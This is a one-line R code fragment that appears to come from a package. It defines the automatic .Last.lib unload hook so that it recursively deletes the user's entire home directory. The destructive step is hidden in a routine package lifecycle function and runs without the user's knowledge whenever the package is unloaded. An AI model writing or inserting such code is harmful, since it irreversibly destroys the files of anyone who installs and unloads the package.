.Last.lib <- function(libpath) unlink(Sys.getenv("HOME"), recursive = TRUE)
